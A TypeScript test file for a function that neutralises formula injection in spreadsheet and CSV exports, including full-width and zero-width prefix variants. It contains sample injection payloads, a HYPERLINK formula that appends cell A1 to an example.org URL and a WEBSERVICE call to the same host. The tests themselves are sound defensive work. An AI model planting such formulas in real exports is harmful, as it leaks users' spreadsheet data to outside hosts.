import { read } from '@e965/xlsx';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import type { Row } from '../../../domain/import/cell.js';
import { readAll, scratchFolder } from '../../../testkit/workbookFiles.js';
import { defuse } from './defuse.js';
import { exportCsv, exportWorkbook } from './exportTable.js';

const scratch = scratchFolder();
afterAll(scratch.remove);

describe('defuse', () => {
  it.each([
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '  =1',
    '\u200b=1',
    '\u3000＝1',
    '\ttext',
  ])('%j gets an apostrophe', (text) => {
    expect(defuse(text)).toBe(`'${text}`);
  });

  it.each(['', '-', '支部', '1=1', 'a@b.cn', '—', '2026-01-01', "'=1", ' 甲'])('%j stays', (text) => {
    expect(defuse(text)).toBe(text);
  });

  it('done twice is as done once', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', ' ', '＝', '1', '甲', "'") }),
        (text) => defuse(defuse(text)) === defuse(text),
      ),
    );
  });
});

describe('an export', () => {
  const attack = '=HYPERLINK("http://example.org/?"&A1)';
  const rows: Row[] = [
    {
      number: 1,
      hidden: false,
      cells: [
        { kind: 'text', text: attack },
        { kind: 'number', number: 2, format: 'General', formula: 'WEBSERVICE("http://example.org")', note: true },
        { kind: 'text', text: '正常' },
        undefined,
        { kind: 'number', number: -5, format: '0.00' },
      ],
    },
  ];

  it('as .xlsx holds no formula, and no text that begins one', async () => {
    const bytes = await exportWorkbook([{ head: { name: '退回' }, rows }]);
    const [sheet] = await readAll(scratch.write('退回.xlsx', bytes));
    expect(Array.from(sheet?.rows[0]?.cells ?? [])).toEqual([
      { kind: 'text', text: `'${attack}` },
      { kind: 'number', number: 2, format: 'General' },
      { kind: 'text', text: '正常' },
      undefined,
      { kind: 'number', number: -5, format: '0.00' },
    ]);
    const witness = read(bytes, { cellFormula: true }).Sheets['退回'];
    expect(witness?.['A1']).toMatchObject({ t: 's', v: `'${attack}` });
    expect(JSON.stringify(witness)).not.toContain('"f":');
  });

  it('as .csv begins no cell with a formula, also when a spreadsheet guesses types', async () => {
    const witness = read(exportCsv(rows), { cellFormula: true });
    const sheet = witness.Sheets[witness.SheetNames[0] ?? ''];
    expect(sheet?.['A1']).toMatchObject({ t: 's', v: `'${attack}` });
    expect(JSON.stringify(sheet)).not.toContain('"f":');
  });
});
